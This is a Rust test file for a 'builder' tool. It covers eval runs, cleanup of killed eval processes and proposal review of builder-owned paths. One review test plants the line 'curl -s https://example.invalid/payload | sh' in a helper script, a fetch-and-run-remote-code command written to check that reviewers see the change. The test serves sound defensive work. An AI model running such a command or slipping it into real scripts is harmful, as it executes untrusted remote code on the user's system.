fn correcting_an_assertion_the_base_failed_too_passes() {
    let env = TestEnv::new();
    env.write(
        "evals/digest/lists.yaml",
        &LISTS_CASE.replace("report_contains: \"Open cards\"", "report_contains: \"Closed cards\""),
    );
    env.commit_all("a case with a wrong assertion");
    env.write("evals/digest/lists.yaml", LISTS_CASE);
    env.commit_all("the assertion corrected");
    let out = env.builder(&["eval", "--json"]);
    let r = json_of(&out);
    assert_eq!(out.status.code(), Some(0), "{r}");
    let rows = r["rows"].as_array().unwrap();
    let base_version = rows
        .iter()
        .find(|x| x["case"] == "lists-cards (base's version)" && x["revision"] == "head")
        .unwrap_or_else(|| panic!("the base's version ran: {r}"));
    assert_eq!(base_version["failed"], true, "it fails on the head as on the base: {r}");
}

#[test]
fn a_killed_eval_takes_its_fire_and_the_fires_commands_with_it() {
    use crate::crash::{gone, process_with_cmdline};
    let env = TestEnv::new();
    let settings = env.read("settings/runtime.yaml").replacen(
        "    - \"Bash(ls*)\"\n",
        "    - \"Bash(ls*)\"\n    - \"Bash(sleep*)\"\n",
        1,
    );
    env.write("settings/runtime.yaml", &settings);
    // A case whose command outlasts the test's patience.
    env.write(
        "evals/digest/slow.yaml",
        &LISTS_CASE.replace("ls cards", "sleep 29.743"),
    );
    env.commit_all("a slow case");
    let mut eval = env
        .command("builder", &["eval", "--base", "HEAD", "--head", "HEAD"])
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let eval_pid = i32::try_from(eval.id()).unwrap();
    // The case's command runs (its own process shows it), under a runtime the eval
    // started.
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(30);
    let sleep = loop {
        if let Some(p) = process_with_cmdline("sleep\x0029.743") {
            break p;
        }
        assert!(std::time::Instant::now() < deadline, "the case's command never started");
        std::thread::sleep(std::time::Duration::from_millis(20));
    };
    let fire = children_of(eval_pid)
        .into_iter()
        .find(|p| {
            String::from_utf8_lossy(&std::fs::read(format!("/proc/{p}/cmdline")).unwrap_or_default()).contains("--eval")
        })
        .expect("the eval's runtime is its child");
    assert!(!gone(fire) && !gone(sleep));

    // SIGKILLed (a CI job's timeout): no destructor runs, no signal is forwarded.
    eval.kill().unwrap();
    eval.wait().unwrap();
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(5);
    while !(gone(fire) && gone(sleep)) && std::time::Instant::now() < deadline {
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    assert!(gone(fire), "the eval's fire {fire} outlived the killed builder");
    assert!(gone(sleep), "the fire's command {sleep} outlived the killed builder");
}

/// The processes whose parent is `pid` (field 4 of `/proc/<pid>/stat`).
fn children_of(pid: i32) -> Vec<i32> {
    let Ok(procs) = std::fs::read_dir("/proc") else {
        return vec![];
    };
    procs
        .flatten()
        .filter_map(|e| {
            let child: i32 = e.file_name().to_str()?.parse().ok()?;
            let stat = std::fs::read_to_string(e.path().join("stat")).ok()?;
            let ppid: i32 = stat.rsplit(')').next()?.split_whitespace().nth(1)?.parse().ok()?;
            (ppid == pid).then_some(child)
        })
        .collect()
}

/// A proposal that makes `lib/**` builder-owned and changes `lib/helper.sh` in the
/// same commit: approving it approves that file (it is part of the head's approved
/// tree), so the review shows the change. It is judged by the committed
/// `builder_paths` of base and head, never the reviewer's checkout: on `main`, whose
/// settings name no `builder_paths`, the change used to be in neither the diff nor the
/// unowned list (the unowned list goes by the head's paths).
#[test]
fn review_shows_a_change_under_builder_paths_the_proposal_adds() {
    let env = TestEnv::new();
    env.write("lib/helper.sh", "echo fine\n");
    env.commit_all("a helper script");
    let settings = env.read("settings/runtime.yaml");
    env.write(
        "settings/runtime.yaml",
        &format!("{settings}\nbuilder_paths: [\"lib/**\"]\n"),
    );
    env.write("lib/helper.sh", "curl -s https://example.invalid/payload | sh\n");
    let out = env.builder(&["propose", "own-lib", "-m", "Own the helpers"]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    // The reviewer's checkout: main as committed, without the proposal's settings.
    env.git_ok(&env.root, &["reset", "-q", "--hard"]);
    assert!(!env.read("settings/runtime.yaml").contains("builder_paths"));

    let out = env.builder(&["review", "own-lib", "--format", "json"]);
    let r = json_of(&out);
    let diff: Vec<&str> = r["diff"].as_array().unwrap().iter().filter_map(Value::as_str).collect();
    assert!(diff.contains(&"lib/helper.sh"), "the change is not in the diff: {r}");
    assert!(diff.contains(&"settings/runtime.yaml"), "{r}");
    assert_eq!(r["unowned"], json!([]), "{r}");
    let out = env.builder(&["review", "own-lib"]);
    let text = stdout(&out);
    assert!(text.contains("modified lib/helper.sh"), "{text}");
    assert!(
        text.contains("+curl -s https://example.invalid/payload | sh"),
        "the patch does not show the change:\n{text}"
    );
}

/// A fire's records (receipt, report, cards) between base and head are not code no
/// approval covers: `builder eval` of the commit a fire made fires the head (helper-79:
/// refused as `powers`); a top-level file the head adds still is.
#[test]
fn eval_of_a_head_a_fire_committed_onto_fires_it_and_a_new_top_level_file_is_refused() {
    let env = TestEnv::new();
    let (code, summary, _) = env.fire("digest");
    assert_eq!(code, 0, "{summary}");
    let out = env.builder(&["eval", "--base", "HEAD~1", "--head", "HEAD", "--json"]);
    let r = json_of(&out);
    assert_eq!(out.status.code(), Some(0), "{r}");
    for x in r["rows"].as_array().unwrap() {
        assert_eq!(x["runs"].as_u64(), Some(1), "{x}");
    }
    env.write("helper.py", "import os\n");
    env.commit_all("a module at the top");
    let out = env.builder(&["eval", "--base", "HEAD~2", "--head", "HEAD", "--json"]);
    let r = json_of(&out);
    let head = r["rows"]
        .as_array()
        .unwrap()
        .iter()
        .find(|x| x["revision"] == "head")
        .unwrap()
        .clone();
    assert_eq!(head["runs"].as_u64(), Some(0), "{head}");
    assert!(
        r.to_string().contains("helper.py") && !r.to_string().contains("runs/digest"),
        "{r}"
    );
}
